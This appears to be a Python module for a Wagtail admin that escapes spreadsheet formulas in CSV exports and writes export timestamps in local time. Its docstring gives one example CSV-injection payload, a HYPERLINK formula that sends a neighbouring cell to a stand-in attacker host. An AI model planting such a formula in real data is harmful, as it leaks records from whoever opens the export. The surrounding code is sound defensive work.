"""CSV files the admin exports open in a spreadsheet as text, whatever someone typed into them.

A cell that starts with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula: a visitor who writes =HYPERLINK("https://evil.example/?x="&A2,"Open")
as their name could send the row beside it to their own server once a staff member opens the
export. Such a cell gets a leading apostrophe, as OWASP advises for CSV injection: spreadsheets
then show the value as text, and a person still reads "+1 312 555 0100" as a phone number.
(The XLSX export is safe already: Wagtail stores every cell there as text.)"""

import csv
import datetime

from django.utils import timezone
from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value):
    """`value`, with a leading apostrophe if a spreadsheet would read it as a formula. A single
    character holds no formula, so the admin's "-" for an empty value is left as it is; numbers
    and dates are not text and pass unchanged."""
    if isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class FormulaEscapingWriter:
    """A `csv.DictWriter` whose every cell passes through `escape_formula`."""

    def __init__(self, writer):
        self.writer = writer

    def writerow(self, row):
        return self.writer.writerow({field: escape_formula(value) for field, value in row.items()})


def stream_csv(self, queryset):
    """Wagtail's `SpreadsheetExportMixin.stream_csv` with the writer wrapped: headings (a form
    field's label is typed by editors) and every row's cells, after Wagtail's own preprocessing."""
    writer = FormulaEscapingWriter(csv.DictWriter(Echo(), fieldnames=self.list_export))
    yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
    for item in queryset:
        yield self.write_csv_row(writer, self.to_row_dict(item))


def escape_formulas_in_admin_csv():
    """Make every CSV export in the admin escape formulas: form submissions, the Applications
    list (wagtail-modeladmin) and Wagtail's built-in reports. Every one of them streams its rows
    through `SpreadsheetExportMixin.stream_csv`. The reports are routed by Wagtail's own admin
    URLs, ahead of any a hook adds, so no subclass of ours could stand in for them; and two of
    them hold what the public typed (Site history names an application by its applicant, Search
    terms lists visitors' searches). So the one method all exports share is replaced, once, at
    start-up, rather than a mixin on our views and this patch for the rest."""
    SpreadsheetExportMixin.stream_csv = stream_csv


def in_local_time(value):
    """An aware date and time as the practice's clock reads it (TIME_ZONE), without a zone, as a
    spreadsheet cell holds it; a naive one is taken as local already."""
    return timezone.make_naive(value) if timezone.is_aware(value) else value


def local_time_text(value):
    """The same, as text spreadsheets read as a date and time: 2026-05-01 19:04:05."""
    return f"{in_local_time(value):%Y-%m-%d %H:%M:%S}"


def export_times_in_local_time():
    """Make every admin export (form submissions, the Applications list, Wagtail's reports) write
    dates and times as the admin shows them, in TIME_ZONE. Wagtail writes them in UTC, so a
    message that arrived at 7 p.m. in Chicago read as the next day in the export. Wagtail's own
    rule for naive values, dates and times stays as it is."""
    SpreadsheetExportMixin.custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        datetime.datetime: {
            SpreadsheetExportMixin.FORMAT_CSV: local_time_text,
            SpreadsheetExportMixin.FORMAT_XLSX: in_local_time,
        },
    }
